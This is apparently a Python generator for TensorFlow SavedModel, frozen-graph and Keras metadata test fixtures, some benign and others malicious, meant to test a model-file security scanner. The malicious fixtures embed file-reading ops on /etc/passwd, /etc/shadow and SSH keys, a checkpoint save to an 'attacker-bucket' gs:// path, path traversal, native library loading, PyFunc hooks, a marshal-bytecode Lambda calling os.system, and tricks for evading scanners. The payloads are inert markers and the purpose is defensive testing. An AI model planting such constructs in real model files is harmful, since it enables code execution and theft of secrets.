#!/usr/bin/python3
"""Generate the TensorFlow fixtures of testdata/tf.

Run from the repository root:  /usr/bin/python3 testdata/tf/gen/gen_tf.py
Python standard library only (TensorFlow is not installable here): pbenc.py encodes
the protobufs. The benign SavedModel mirrors what TF 2.13 writes for
tf.keras.Sequential([Dense(8, relu), Dense(2)]).save(path) (schema version 1, one
meta graph tagged "serve", tensorflow_version, the VarHandleOp/StatefulPartitionedCall
graph with saver_filename and the _traced_save/_traced_restore functions, the
__inference_* bodies, signature_def serving_default and __saved_model_init_op, an
object graph), next to its keras_metadata.pb and fingerprint.pb. Output is
deterministic. Payloads are inert markers (echo hallmark-marker, /tmp/hallmark-marker).
"""
import base64
import json
import marshal
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pbenc import *  # noqa: E402,F401,F403

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
MANIFEST = []
TF_VERSION, TF_GIT = "2.13.0", "v2.13.0-rc2-7-g1cb1a030a62"


def out(kind, name, data, trick, sev, expect, note):
    path = os.path.join(ROOT, kind, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append({"file": kind + "/" + name, "kind": kind, "trick": trick,
                     "expect_min_severity": sev, "expect": expect, "note": note})


F = DT_FLOAT
R = DT_RESOURCE
S = DT_STRING
CONFIG_PROTO = b"\n\x07\n\x03CPU\x10\x01\n\x07\n\x03GPU\x10\x002\x02J\x008\x01\x82\x01\x00"


def call(name, inputs, fn, tin, tout, stateful=True):
    return node(name, "StatefulPartitionedCall" if stateful else "PartitionedCall", inputs, {
        "Tin": a_list(types=tin), "Tout": a_list(types=tout), "_collective_manager_ids": a_list(),
        "_read_only_resource_inputs": a_list(ints=[1, 2]), "config": a_s(""), "config_proto": a_s(CONFIG_PROTO),
        "executor_type": a_s(""), "f": a_func(fn)})


def var(name, dims):
    return node(name, "VarHandleOp", attrs={
        "_output_shapes": a_list(shapes=[shape([])]), "allowed_devices": a_list(), "container": a_s(""),
        "dtype": a_type(F), "shape": a_shape(dims), "shared_name": a_s(name)})


def read(name, resource):
    return node(name, "ReadVariableOp", [resource], {"dtype": a_type(F)})


OPS = ["AddV2", "AssignVariableOp", "BiasAdd", "Const", "Identity", "MatMul", "MergeV2Checkpoints", "NoOp",
       "Pack", "Placeholder", "ReadVariableOp", "Relu", "RestoreV2", "SaveV2", "Select", "ShardedFilename",
       "StatefulPartitionedCall", "StaticRegexFullMatch", "StringJoin", "VarHandleOp"]


def stripped_ops(extra=()):
    return [opdef(n, stateful=n in ("AssignVariableOp", "MergeV2Checkpoints", "RestoreV2", "SaveV2",
                                      "StatefulPartitionedCall", "VarHandleOp", "ReadVariableOp"))
            for n in sorted(set(OPS) | set(extra))]


VARS = [("dense/kernel", [4, 8]), ("dense/bias", [8]), ("dense_1/kernel", [8, 2]), ("dense_1/bias", [2])]
CKPT_NAMES = ["layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE",
              "layer_with_weights-1/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-1/bias/.ATTRIBUTES/VARIABLE_VALUE",
              "_CHECKPOINTABLE_OBJECT_GRAPH"]


def model_body(prefix, inp, extra_nodes=()):
    """the Dense-ReLU-Dense computation as a function body (resources as arguments)"""
    p = prefix
    return [
        read(p + "dense/MatMul/ReadVariableOp", "dense_matmul_readvariableop_resource"),
        node(p + "dense/MatMul", "MatMul", [inp, p + "dense/MatMul/ReadVariableOp:value:0"], {"T": a_type(F)}),
        read(p + "dense/BiasAdd/ReadVariableOp", "dense_biasadd_readvariableop_resource"),
        node(p + "dense/BiasAdd", "BiasAdd", [p + "dense/MatMul:product:0", p + "dense/BiasAdd/ReadVariableOp:value:0"], {"T": a_type(F)}),
        node(p + "dense/Relu", "Relu", [p + "dense/BiasAdd:output:0"], {"T": a_type(F)}),
        read(p + "dense_1/MatMul/ReadVariableOp", "dense_1_matmul_readvariableop_resource"),
        node(p + "dense_1/MatMul", "MatMul", [p + "dense/Relu:activations:0", p + "dense_1/MatMul/ReadVariableOp:value:0"], {"T": a_type(F)}),
        read(p + "dense_1/BiasAdd/ReadVariableOp", "dense_1_biasadd_readvariableop_resource"),
        node(p + "dense_1/BiasAdd", "BiasAdd", [p + "dense_1/MatMul:product:0", p + "dense_1/BiasAdd/ReadVariableOp:value:0"], {"T": a_type(F)}),
        *extra_nodes,
        node("Identity", "Identity", [p + "dense_1/BiasAdd:output:0", "^NoOp"], {"T": a_type(F)}),
        node("NoOp", "NoOp", ["^" + p + "dense/BiasAdd/ReadVariableOp", "^" + p + "dense/MatMul/ReadVariableOp",
                              "^" + p + "dense_1/BiasAdd/ReadVariableOp", "^" + p + "dense_1/MatMul/ReadVariableOp"]),
    ]


RES_ARGS = [arg("dense_matmul_readvariableop_resource", R), arg("dense_biasadd_readvariableop_resource", R),
            arg("dense_1_matmul_readvariableop_resource", R), arg("dense_1_biasadd_readvariableop_resource", R)]


def traced_save():
    nodes = [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"], {"pattern": a_s("^s3://.*")}),
        const_str("Const", ".part"),
        const_str("Const_1", "_temp/part"),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"], {"T": a_type(S)}),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"], {"N": a_i(2)}),
        const_int("num_shards", 1),
        const_int("ShardedFilename/shard", 0),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"]),
        const_str("SaveV2/tensor_names", CKPT_NAMES, dims=[5]),
        const_str("SaveV2/shape_and_slices", [""] * 5, dims=[5]),
        node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0",
                                  "savev2_dense_kernel_read_readvariableop", "savev2_dense_bias_read_readvariableop",
                                  "savev2_dense_1_kernel_read_readvariableop", "savev2_dense_1_bias_read_readvariableop",
                                  "savev2_const"], {"dtypes": a_list(types=[F, F, F, F, S])}),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", ["ShardedFilename:filename:0", "^SaveV2"], {"N": a_i(1), "T": a_type(S)}),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", ["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix", "^SaveV2"]),
        node("Identity", "Identity", ["file_prefix", "^MergeV2Checkpoints"], {"T": a_type(S)}),
        node("Identity_1", "Identity", ["Identity:output:0", "^NoOp"], {"T": a_type(S)}),
        node("NoOp", "NoOp", ["^MergeV2Checkpoints"]),
    ]
    return function("__inference__traced_save_94",
                    [arg("file_prefix", S)] + [arg("savev2_" + n.replace("/", "_") + "_read_readvariableop", F) for n, _ in VARS]
                    + [arg("savev2_const", S)],
                    [arg("identity_1", S)], nodes, {"identity_1": "Identity_1:output:0"}, control_ret={"NoOp": "NoOp"})


def traced_restore():
    nodes = [const_str("RestoreV2/tensor_names", CKPT_NAMES, dims=[5]),
             const_str("RestoreV2/shape_and_slices", [""] * 5, dims=[5]),
             node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"],
                  {"dtypes": a_list(types=[F, F, F, F, S])})]
    for i, (n, _) in enumerate(VARS):
        ident = "Identity" + ("_%d" % i if i else "")
        nodes.append(node(ident, "Identity", ["RestoreV2:tensors:%d" % i], {"T": a_type(F)}))
        nodes.append(node("AssignVariableOp" + ("_%d" % i if i else ""), "AssignVariableOp",
                          ["assignvariableop_" + n.replace("/", "_"), ident + ":output:0"], {"dtype": a_type(F)}))
    nodes.append(node("NoOp_1", "NoOp", []))
    nodes.append(node("Identity_5", "Identity", ["file_prefix", "^NoOp_1"], {"T": a_type(S)}))
    return function("__inference__traced_restore_122",
                    [arg("file_prefix", S)] + [arg("assignvariableop_" + n.replace("/", "_"), R) for n, _ in VARS],
                    [arg("identity_5", S)], nodes, {"identity_5": "Identity_5:output:0"})


def saved_model_pb(main_extra=(), call_extra=(), extra_functions=(), extra_ops=(), assets=(), user_metadata=None,
                   wrapped_extra=()):
    fn_args = [arg("inputs", F)] + RES_ARGS
    call_fn = function("__inference_call_58", fn_args, [arg("identity", F)], model_body("", "inputs", call_extra),
                       {"identity": "Identity:output:0"}, control_ret={"NoOp": "NoOp"})
    wrapped = function("__inference__wrapped_model_33", [arg("dense_input", F)] + RES_ARGS, [arg("identity", F)],
                       model_body("sequential/", "dense_input", wrapped_extra), {"identity": "Identity:output:0"},
                       control_ret={"NoOp": "NoOp"})
    sig = function("__inference_signature_wrapper_80", [arg("dense_input", F), arg("unknown", R), arg("unknown_0", R),
                                                        arg("unknown_1", R), arg("unknown_2", R)],
                   [arg("identity", F)],
                   [call("StatefulPartitionedCall", ["dense_input", "unknown", "unknown_0", "unknown_1", "unknown_2"],
                         "__inference__wrapped_model_33", [F, R, R, R, R], [F]),
                    node("Identity", "Identity", ["StatefulPartitionedCall:output:0", "^NoOp"], {"T": a_type(F)}),
                    node("NoOp", "NoOp", ["^StatefulPartitionedCall"])],
                   {"identity": "Identity:output:0"}, control_ret={"NoOp": "NoOp"})
    nodes = []
    for n, dims in VARS:
        nodes.append(var(n, dims))
        nodes.append(read(n + "/Read/ReadVariableOp", n))
    nodes += [
        node("NoOp", "NoOp"),
        const_str("Const", b"\n\x8a\x01\n\x13\x08\x01\x12\x0flayer_with_weights-0"),
        node("serving_default_dense_input", "Placeholder", attrs={"dtype": a_type(F), "shape": a_shape([-1, 4])}),
        call("StatefulPartitionedCall", ["serving_default_dense_input"] + [n for n, _ in VARS],
             "__inference_signature_wrapper_80", [F, R, R, R, R], [F]),
        node("saver_filename", "Placeholder", attrs={"dtype": a_type(S), "shape": a_shape([])}),
        call("StatefulPartitionedCall_1", ["saver_filename"] + [n + "/Read/ReadVariableOp" for n, _ in VARS] + ["Const"],
             "__inference__traced_save_94", [S, F, F, F, F, S], [S]),
        call("StatefulPartitionedCall_2", ["saver_filename"] + [n for n, _ in VARS],
             "__inference__traced_restore_122", [S, R, R, R, R], [S]),
        *main_extra,
    ]
    funcs = sorted([call_fn, wrapped, sig, traced_save(), traced_restore(), *extra_functions])
    graph = graph_def(nodes, funcs)
    sigs = {
        "__saved_model_init_op": signature({}, {"__saved_model_init_op": tensor_info("NoOp", 0, unknown_rank=True)}, ""),
        "serving_default": signature({"dense_input": tensor_info("serving_default_dense_input:0", F, [-1, 4])},
                                     {"dense_1": tensor_info("StatefulPartitionedCall:0", F, [-1, 2])},
                                     "tensorflow/serving/predict"),
    }
    objects = [
        saved_object(children=[(1, "layer_with_weights-0"), (2, "layer_with_weights-1"), (3, "signatures")],
                     user_object=("_tf_keras_sequential", user_metadata or "")),
        saved_object(children=[(4, "kernel"), (5, "bias")], user_object=("_tf_keras_layer", "")),
        saved_object(children=[(6, "kernel"), (7, "bias")], user_object=("_tf_keras_layer", "")),
        saved_object(children=[(8, "serving_default")], user_object=("signature_map", "")),
    ]
    for n, dims in VARS:
        objects.append(saved_object(variable=(F, dims, n)))
    objects.append(saved_object(function_names=["__inference_signature_wrapper_80"]))
    og = object_graph(objects, ["__inference_signature_wrapper_80", "__inference_call_58"])
    info = meta_info(stripped_ops(extra_ops), ["serve"], TF_VERSION, TF_GIT)
    mg = meta_graph(info, graph, saver_def("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2"),
                    signatures=sigs, assets=assets, object_graph=og)
    return saved_model(mg)


# ---------------------------------------------------------------- keras metadata

def dense_config(name, units, activation, input_shape=None):
    cfg = {"name": name, "trainable": True, "dtype": "float32"}
    if input_shape:
        cfg["batch_input_shape"] = {"class_name": "__tuple__", "items": [None] + input_shape}
    cfg.update({"units": units, "activation": activation, "use_bias": True,
                "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                "bias_initializer": {"class_name": "Zeros", "config": {}},
                "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                "kernel_constraint": None, "bias_constraint": None})
    return cfg


def layer_metadata(class_name, cfg, sid, in_dim):
    return json.dumps({"name": cfg["name"], "trainable": True, "expects_training_arg": False, "dtype": "float32",
                       "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
                       "preserve_input_structure_in_config": False, "autocast": True, "class_name": class_name,
                       "config": cfg, "shared_object_id": sid,
                       "input_spec": {"class_name": "InputSpec", "config": {"dtype": None, "shape": None, "ndim": None,
                                                                            "max_ndim": None, "min_ndim": 2, "axes": {"-1": in_dim}}},
                       "build_input_shape": {"class_name": "TensorShape", "items": [None, in_dim]}})


def sequential_metadata(layers):
    cfg = {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {
        "batch_input_shape": {"class_name": "__tuple__", "items": [None, 4]}, "dtype": "float32", "sparse": False,
        "ragged": False, "name": "dense_input"}}] + layers}
    return json.dumps({"name": "sequential", "trainable": True, "expects_training_arg": True, "dtype": "float32",
                       "batch_input_shape": None, "must_restore_from_config": False,
                       "preserve_input_structure_in_config": False, "autocast": False, "class_name": "Sequential",
                       "config": cfg, "shared_object_id": 7, "is_graph_network": True,
                       "keras_version": "2.13.1", "backend": "tensorflow",
                       "model_config": {"class_name": "Sequential", "config": cfg}})


def benign_keras_metadata():
    d0 = dense_config("dense", 8, "relu", [4])
    d1 = dense_config("dense_1", 2, "linear")
    objs = [keras_object(0, "root", "_tf_keras_sequential",
                         sequential_metadata([{"class_name": "Dense", "config": d0}, {"class_name": "Dense", "config": d1}])),
            keras_object(1, "root.layer_with_weights-0", "_tf_keras_layer", layer_metadata("Dense", d0, 3, 4)),
            keras_object(2, "root.layer_with_weights-1", "_tf_keras_layer", layer_metadata("Dense", d1, 6, 8))]
    return saved_metadata(objs)


def lambda_config():
    src = "lambda x: __import__('os').system('echo hallmark-marker') or x"
    code = compile(src, "<hallmark-fixture>", "eval").co_consts[0]
    payload = base64.b64encode(marshal.dumps(code)).decode()
    return {"name": "lambda", "trainable": True, "dtype": "float32",
            "function": {"class_name": "__tuple__", "items": [payload, None, None]},
            "function_type": "lambda", "module": "__main__", "output_shape": None,
            "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}


def malicious_keras_metadata():
    d0 = dense_config("dense", 8, "relu", [4])
    lam = lambda_config()
    objs = [keras_object(0, "root", "_tf_keras_sequential",
                         sequential_metadata([{"class_name": "Dense", "config": d0}, {"class_name": "Lambda", "config": lam}])),
            keras_object(1, "root.layer_with_weights-0", "_tf_keras_layer", layer_metadata("Dense", d0, 3, 4)),
            keras_object(2, "root.layer-1", "_tf_keras_layer",
                         json.dumps({"name": "lambda", "trainable": True, "expects_training_arg": False, "dtype": "float32",
                                     "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
                                     "preserve_input_structure_in_config": False, "autocast": True, "class_name": "Lambda",
                                     "config": lam, "shared_object_id": 5}))]
    return saved_metadata(objs)


# ---------------------------------------------------------------- fixtures

def frozen_graph(extra=()):
    kernel = struct.pack("<32f", *[((i * 37) % 19 - 9) / 10.0 for i in range(32)])
    bias = struct.pack("<8f", *[i / 100.0 for i in range(8)])
    nodes = [
        node("input", "Placeholder", attrs={"dtype": a_type(F), "shape": a_shape([-1, 4])}),
        node("dense/kernel", "Const", attrs={"dtype": a_type(F), "value": a_tensor(tensor(F, [4, 8], content=kernel))}),
        node("dense/bias", "Const", attrs={"dtype": a_type(F), "value": a_tensor(tensor(F, [8], content=bias))}),
        node("dense/MatMul", "MatMul", ["input", "dense/kernel"], {"T": a_type(F), "transpose_a": a_b(False), "transpose_b": a_b(False)}),
        node("dense/BiasAdd", "BiasAdd", ["dense/MatMul", "dense/bias"], {"T": a_type(F), "data_format": a_s("NHWC")}),
        node("dense/Relu", "Relu", ["dense/BiasAdd"], {"T": a_type(F)}),
        *extra,
        node("output", "Identity", ["dense/Relu"], {"T": a_type(F)}),
    ]
    return graph_def(nodes, producer=1482, min_consumer=0)


def tf1_meta_graph(extra=()):
    """a TF1 tf.train.Saver graph exported with tf.compat.v1.train.export_meta_graph"""
    nodes = [
        node("x", "Placeholder", attrs={"dtype": a_type(F), "shape": a_shape([-1, 4])}),
        node("w", "VariableV2", attrs={"container": a_s(""), "dtype": a_type(F), "shape": a_shape([4, 2]), "shared_name": a_s("")}),
        node("w/read", "Identity", ["w"], {"T": a_type(F), "_class": a_list(strings=["loc:@w"])}),
        node("MatMul", "MatMul", ["x", "w/read"], {"T": a_type(F)}),
        const_str("save/filename/input", "model"),
        node("save/filename", "PlaceholderWithDefault", ["save/filename/input"], {"dtype": a_type(S), "shape": a_shape([])}),
        node("save/Const", "PlaceholderWithDefault", ["save/filename"], {"dtype": a_type(S), "shape": a_shape([])}),
        node("save/StaticRegexFullMatch", "StaticRegexFullMatch", ["save/Const"], {"pattern": a_s("^s3://.*")}),
        const_str("save/Const_1", ".part"),
        const_str("save/Const_2", "_temp_8d9f0c1e2b3a4d5e6f708192a3b4c5d6/part"),
        node("save/Select", "Select", ["save/StaticRegexFullMatch", "save/Const_1", "save/Const_2"], {"T": a_type(S)}),
        node("save/StringJoin", "StringJoin", ["save/Const", "save/Select"], {"N": a_i(2), "separator": a_s("")}),
        const_int("save/num_shards", 1),
        const_int("save/ShardedFilename/shard", 0),
        node("save/ShardedFilename", "ShardedFilename", ["save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"]),
        const_str("save/SaveV2/tensor_names", ["w"], dims=[1]),
        const_str("save/SaveV2/shape_and_slices", [""], dims=[1]),
        node("save/SaveV2", "SaveV2", ["save/ShardedFilename", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "w"],
             {"dtypes": a_list(types=[F])}),
        node("save/control_dependency", "Identity", ["save/ShardedFilename", "^save/SaveV2"], {"T": a_type(S)}),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", ["save/ShardedFilename", "^save/control_dependency"], {"N": a_i(1), "T": a_type(S)}),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints", ["save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"]),
        node("save/Identity", "Identity", ["save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency"], {"T": a_type(S)}),
        const_str("save/RestoreV2/tensor_names", ["w"], dims=[1]),
        const_str("save/RestoreV2/shape_and_slices", [""], dims=[1]),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"],
             {"dtypes": a_list(types=[F])}),
        node("save/Assign", "Assign", ["w", "save/RestoreV2"], {"T": a_type(F), "use_locking": a_b(True), "validate_shape": a_b(True)}),
        node("save/restore_all", "NoOp", ["^save/Assign"]),
        *extra,
    ]
    info = meta_info([opdef(n) for n in ["Assign", "Const", "Identity", "MatMul", "MergeV2Checkpoints", "NoOp", "Pack",
                                         "Placeholder", "PlaceholderWithDefault", "RestoreV2", "SaveV2", "Select",
                                         "ShardedFilename", "StaticRegexFullMatch", "StringJoin", "VariableV2"]],
                     [], "1.15.5", "v1.15.4-39-g3db52be")
    var_def = fs(1, "w:0") + fs(2, "w/Assign") + fs(3, "w/read:0") + fs(4, "w/initial_value:0") + fv(7, True)
    collections = {"trainable_variables": fm(2, fb(1, var_def)), "variables": fm(2, fb(1, var_def))}
    return meta_graph(info, graph_def(nodes, producer=134, min_consumer=0),
                      saver_def("save/Const:0", "save/Identity:0", "save/restore_all", version=2, max_to_keep=5,
                                sharded=True, keep_hours=10000.0),
                      collections=collections)


def benign():
    d = "saved_model_keras_dense/"
    out("benign", d + "saved_model.pb", saved_model_pb(), "TF 2.x Keras SavedModel", "low", "",
        "mirrors TF 2.13 Keras Sequential(Dense, Dense).save(): saver graph (SaveV2/RestoreV2/MergeV2Checkpoints/ShardedFilename in "
        "__inference__traced_save/_restore), StatefulPartitionedCall bodies, serving_default signature")
    out("benign", d + "keras_metadata.pb", benign_keras_metadata(), "Keras SavedMetadata", "low", "",
        "keras_metadata.pb of the same model: Sequential + 2 Dense metadata JSON (Keras 2.13 layout)")
    out("benign", d + "fingerprint.pb", fingerprint(0xA4B1C2D3E4F50617, 0x1D2C3B4A59687706, 0x3E4F5A6B7C8D9E0F,
                                                    0x0F1E2D3C4B5A6978, 0x7766554433221100),
        "SavedModel fingerprint", "low", "", "FingerprintDef (TF 2.12+): five 64-bit hashes and a VersionDef")
    out("benign", "frozen_graph.pb", frozen_graph(), "frozen GraphDef", "low", "",
        "convert_variables_to_constants-style GraphDef: Placeholder, Const weights (tensor_content), MatMul, BiasAdd, Relu, Identity")
    out("benign", "tf1_saver.meta", tf1_meta_graph(), "TF1 MetaGraphDef with tf.train.Saver", "low", "",
        "export_meta_graph output of TF 1.15: save/Const='model' fed through PlaceholderWithDefault to SaveV2/RestoreV2/MergeV2Checkpoints")
    out("benign", "cachedataset_in_memory/saved_model.pb",
        saved_model_pb(main_extra=[
            const_str("cache/filename", ""),
            node("cache/TensorSliceDataset", "TensorSliceDataset", ["serving_default_dense_input"],
                 {"Toutput_types": a_list(types=[F]), "output_shapes": a_list(shapes=[shape([4])])}),
            node("cache/CacheDatasetV2", "CacheDatasetV2", ["cache/TensorSliceDataset", "cache/filename", "cache/MemoryCache"],
                 {"output_types": a_list(types=[F]), "output_shapes": a_list(shapes=[shape([4])])})],
            extra_ops=["CacheDatasetV2", "TensorSliceDataset"]),
        "tf.data cache() in memory", "low", "",
        "Dataset.cache() with the default filename '': CacheDatasetV2 keeps the elements in memory and touches no file")


def malicious():
    out("malicious", "readfile_writefile_main_graph/saved_model.pb",
        saved_model_pb(main_extra=[const_str("leak/src", "/etc/passwd"),
                                   node("leak/ReadFile", "ReadFile", ["leak/src"]),
                                   const_str("leak/dst", "/tmp/hallmark-marker"),
                                   node("leak/WriteFile", "WriteFile", ["leak/dst", "leak/ReadFile"])],
                       extra_ops=["ReadFile", "WriteFile"]),
        "ReadFile + WriteFile in the main graph", "high", "tf/file-op",
        "graph_def.node ReadFile(/etc/passwd) -> WriteFile(/tmp/hallmark-marker) (research 6.D D3)")
    out("malicious", "readfile_in_library_function/saved_model.pb",
        saved_model_pb(call_extra=[const_str("secret_path", "/etc/passwd"),
                                   node("ReadFile", "ReadFile", ["secret_path:output:0"])], extra_ops=["ReadFile"]),
        "ReadFile hidden in a tf.function body", "high", "tf/file-op",
        "ReadFile only in library.function[__inference_call_58].node_def: ModelAudit walks only graph_def.node (research 4.3)")
    pyfunc_fn = function("__inference_py_hook_200", [arg("x", F)], [arg("identity", F)],
                         [node("PyFunc", "PyFunc", ["x"], {"Tin": a_list(types=[F]), "Tout": a_list(types=[F]), "token": a_s("pyfunc_0")}),
                          node("Identity", "Identity", ["PyFunc:output:0"], {"T": a_type(F)})], {"identity": "Identity:output:0"})
    out("malicious", "pyfunc/saved_model.pb", saved_model_pb(extra_functions=[pyfunc_fn], extra_ops=["PyFunc"],
                                                             main_extra=[call("py_hook", ["serving_default_dense_input"], "__inference_py_hook_200", [F], [F], stateful=False)]),
        "PyFunc", "critical", "tf/python-op", "tf.numpy_function/py_func node (token pyfunc_0) in a library function")
    out("malicious", "eager_pyfunc/saved_model.pb",
        saved_model_pb(wrapped_extra=[node("EagerPyFunc", "EagerPyFunc", ["dense_input"],
                                           {"Tin": a_list(types=[F]), "Tout": a_list(types=[F]), "token": a_s("pyfunc_1"), "is_async": a_b(False)})],
                       extra_ops=["EagerPyFunc"]),
        "EagerPyFunc", "critical", "tf/python-op", "tf.py_function (EagerPyFunc) inside __inference__wrapped_model")
    out("malicious", "printv2_to_file/saved_model.pb",
        saved_model_pb(call_extra=[node("StringFormat", "StringFormat", ["inputs"], {"T": a_list(types=[F]), "template": a_s("{}"), "placeholder": a_s("{}"), "summarize": a_i(3)}),
                                   node("PrintV2", "PrintV2", ["StringFormat:output:0"], {"output_stream": a_s("file:///tmp/hallmark-marker.log"), "end": a_s("\n")})],
                       extra_ops=["PrintV2", "StringFormat"]),
        "PrintV2 to file://", "high", "tf/print-to-file", "tf.print(x, output_stream='file:///tmp/hallmark-marker.log') logs every input to a file")
    out("malicious", "savev2_remote_prefix/saved_model.pb",
        saved_model_pb(main_extra=[const_str("exfil/bucket", "gs://attacker-bucket/"),
                                   const_str("exfil/name", "hallmark-marker/ckpt"),
                                   node("exfil/prefix", "StringJoin", ["exfil/bucket", "exfil/name"], {"N": a_i(2)}),
                                   const_str("exfil/tensor_names", ["dense/kernel"], dims=[1]),
                                   const_str("exfil/shape_and_slices", [""], dims=[1]),
                                   node("exfil/SaveV2", "SaveV2", ["exfil/prefix", "exfil/tensor_names", "exfil/shape_and_slices",
                                                                   "dense/kernel/Read/ReadVariableOp"], {"dtypes": a_list(types=[F])})]),
        "SaveV2 to gs://", "high", "tf/checkpoint-path",
        "SaveV2 whose prefix is StringJoin(Const gs://attacker-bucket/, Const hallmark-marker/ckpt): writes the weights to a remote bucket")
    out("malicious", "matching_files_frozen.pb",
        frozen_graph(extra=[const_str("glob", "/home/*/.ssh/id_*"), node("MatchingFiles", "MatchingFiles", ["glob"])]),
        "MatchingFiles in a frozen graph", "high", "tf/file-op", "GraphDef (frozen .pb) listing SSH keys with MatchingFiles")
    out("malicious", "pyfunc_frozen.pb",
        frozen_graph(extra=[node("hook", "PyFunc", ["dense/Relu"], {"Tin": a_list(types=[F]), "Tout": a_list(types=[F]), "token": a_s("pyfunc_3")})]),
        "PyFunc in a frozen graph", "critical", "tf/python-op", "tf.compat.v1.py_func node in a frozen GraphDef")
    out("malicious", "load_library/saved_model.pb",
        saved_model_pb(main_extra=[const_str("lib", "/tmp/hallmark-marker.so"), node("LoadLibrary", "LoadLibrary", ["lib"])],
                       extra_ops=["LoadLibrary"]),
        "LoadLibrary op", "high", "tf/file-op", "a node named after LoadLibrary (ModelAudit's list): loading native code")
    out("malicious", "partitionedcall_readfile/saved_model.pb",
        saved_model_pb(main_extra=[const_str("target", "/etc/shadow"),
                                   node("direct_op", "PartitionedCall", ["target"], {"Tin": a_list(types=[S]), "Tout": a_list(types=[S]),
                                                                                    "f": a_func("ReadFile")})]),
        "primitive op called through a function attribute", "high", "tf/file-op",
        "PartitionedCall f=ReadFile: the function runtime instantiates the primitive op, no ReadFile node exists")
    out("malicious", "asset_traversal/saved_model.pb",
        saved_model_pb(assets=[fm(1, tensor_info("asset_path:0", S, [])) + fs(2, "../../../../etc/passwd")]),
        "asset file name traversal", "high", "tf/asset-path", "AssetFileDef.filename=../../../../etc/passwd, joined to assets/ at load")
    out("malicious", "keras_metadata_lambda/keras_metadata.pb", malicious_keras_metadata(),
        "Keras Lambda in keras_metadata.pb", "high", "keras/",
        "SavedMetadata node metadata JSON with a Lambda layer whose function is base64 marshal bytecode calling os.system('echo hallmark-marker') (CVE-2024-3660 class); tfgraph returns the JSON, the Keras analyser flags it")
    lam_json = json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "Lambda", "config": lambda_config()}]}})
    out("malicious", "user_object_lambda/saved_model.pb", saved_model_pb(user_metadata=lam_json),
        "Keras Lambda in SavedUserObject.metadata", "high", "keras/",
        "TF 2.0-2.4 layout: Keras metadata JSON stored in object_graph_def user_object.metadata (field 3) with a marshal Lambda")
    good = saved_model_pb()
    out("malicious", "truncated/saved_model.pb", good[: len(good) // 2], "truncated SavedModel", "high", "tf/malformed",
        "the benign saved_model.pb cut in half: meta_graphs length runs past the end")
    out("malicious", "readfile.meta", tf1_meta_graph(extra=[const_str("p", "/etc/passwd"), node("ReadFile", "ReadFile", ["p"])]),
        "ReadFile in a TF1 MetaGraphDef", "high", "tf/file-op", "export_meta_graph .meta file with a ReadFile(/etc/passwd) node")


def ph_attr(name):
    """AttrValue.placeholder (field 9): filled from the caller's attrs when the function is instantiated."""
    return fb(9, name)


def function_with_attrs(name, inputs, outputs, nodes, ret, sig_attrs):
    """A FunctionDef whose OpDef signature declares attrs (name, type), as Defun-style functions do."""
    sig = (fs(1, name) + b"".join(fm(2, a) for a in inputs) + b"".join(fm(3, a) for a in outputs)
           + b"".join(fm(4, fs(1, n) + fs(2, t)) for n, t in sig_attrs) + fv(17, True))
    return fm(1, sig) + b"".join(fm(3, n) for n in nodes) + mapf(4, ret)


def placeholder_fixtures():
    # PrintV2 output_stream given as a placeholder; the StatefulPartitionedCall's f attrs supply file://.
    body = [node("StringFormat", "StringFormat", ["x"], {"T": a_list(types=[F]), "template": a_s("{}"),
                                                           "placeholder": a_s("{}"), "summarize": a_i(3)}),
            node("PrintV2", "PrintV2", ["StringFormat:output:0"], {"output_stream": ph_attr("stream"), "end": a_s("\n")}),
            node("Identity", "Identity", ["x", "^PrintV2"], {"T": a_type(F)})]
    fn = function_with_attrs("__inference_log_300", [arg("x", F)], [arg("identity", F)], body,
                             {"identity": "Identity:output:0"}, [("stream", "string")])
    caller = node("log_call", "StatefulPartitionedCall", ["serving_default_dense_input"], {
        "Tin": a_list(types=[F]), "Tout": a_list(types=[F]),
        "f": a_func("__inference_log_300", {"stream": a_s("file:///tmp/hallmark-marker.log")})})
    out("malicious", "printv2_placeholder_stream/saved_model.pb",
        saved_model_pb(main_extra=[caller], extra_functions=[fn], extra_ops=["PrintV2", "StringFormat"]),
        "PrintV2 output_stream as a function attr placeholder", "high", "tf/print-to-file",
        "AttrValue.placeholder 'stream' substituted from the caller's f attrs at instantiation (attr_value_util.cc SubstitutePlaceholders)")
    # ImmutableConst memory_region_name via a placeholder.
    body = [node("ImmutableConst", "ImmutableConst", [], {"dtype": a_type(F), "shape": a_shape([16]),
                                                          "memory_region_name": ph_attr("region")}),
